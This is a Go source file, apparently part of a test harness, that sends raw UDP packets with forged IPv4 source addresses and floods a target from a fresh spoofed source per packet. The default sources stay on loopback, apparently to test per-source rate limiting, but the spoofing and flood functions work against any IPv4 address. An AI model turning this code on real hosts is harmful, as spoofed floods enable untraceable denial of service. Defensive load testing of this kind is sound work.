package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"syscall"
	"time"
)

// Spoofer sends UDP over IPv4 from source addresses it does not hold, as
// an attacker on a network without source filtering does: through a raw
// socket (IP_HDRINCL), so nothing sent from it can receive an answer. It
// needs CAP_NET_RAW.
type Spoofer struct {
	fd  int
	buf []byte
}

// NewSpoofer opens the raw socket.
func NewSpoofer() (*Spoofer, error) {
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		return nil, fmt.Errorf("attack: raw socket (needs CAP_NET_RAW): %w", err)
	}
	return &Spoofer{fd: fd, buf: make([]byte, 0, 65535)}, nil
}

// Close closes the socket.
func (s *Spoofer) Close() error { return syscall.Close(s.fd) }

// Send sends payload from src to dst, both IPv4. The kernel fills in the
// IP checksum, the total length and the packet ID; the UDP checksum is
// left zero (optional over IPv4).
func (s *Spoofer) Send(src, dst netip.AddrPort, payload []byte) error {
	if !src.Addr().Unmap().Is4() || !dst.Addr().Unmap().Is4() {
		return errors.New("attack: spoofer sends IPv4 only")
	}
	const ipLen, udpLen = 20, 8
	n := ipLen + udpLen + len(payload)
	if n > cap(s.buf) {
		return errors.New("attack: payload too large")
	}
	b := s.buf[:n]
	clear(b[:ipLen+udpLen])
	b[0] = 0x45 // version 4, 5 words of header
	binary.BigEndian.PutUint16(b[2:4], uint16(n))
	b[8] = 64 // TTL
	b[9] = syscall.IPPROTO_UDP
	s4, d4 := src.Addr().Unmap().As4(), dst.Addr().Unmap().As4()
	copy(b[12:16], s4[:])
	copy(b[16:20], d4[:])
	binary.BigEndian.PutUint16(b[20:22], src.Port())
	binary.BigEndian.PutUint16(b[22:24], dst.Port())
	binary.BigEndian.PutUint16(b[24:26], uint16(udpLen+len(payload)))
	copy(b[ipLen+udpLen:], payload)
	return syscall.Sendto(s.fd, b, 0, &syscall.SockaddrInet4{Addr: d4})
}

// FloodSpoofed sends pkts round-robin to dst, each from a source of its
// own (source(i) names it), at most max packets in dur at one packet per
// every (paced 64 at a time), until ctx ends. It returns how many it sent.
func (s *Spoofer) FloodSpoofed(ctx context.Context, dst netip.AddrPort, pkts [][]byte, source func(i uint64) netip.AddrPort, max uint64, dur, every time.Duration) uint64 {
	start := time.Now()
	end := start.Add(dur)
	var sent uint64
	for i := uint64(0); i < max; i++ {
		if i%64 == 0 {
			if time.Now().After(end) || ctx.Err() != nil {
				break
			}
			if every > 0 {
				time.Sleep(time.Until(start.Add(time.Duration(i) * every)))
			}
		}
		if err := s.Send(source(i), dst, pkts[i%uint64(len(pkts))]); err == nil {
			sent++
		}
	}
	return sent
}

// LoopbackSource is the i-th of a flood's spoofed sources: addresses in
// 127.64.0.0/10, which are local (so the flood stays on the loopback) but
// which nothing binds, each with a port of its own: every packet gets a
// source, and so a per-source bucket, that no other packet had.
func LoopbackSource(i uint64) netip.AddrPort {
	return netip.AddrPortFrom(netip.AddrFrom4([4]byte{127, 64 + byte(i>>16)&63, byte(i >> 8), byte(i)}), uint16(1024+i%60000))
}
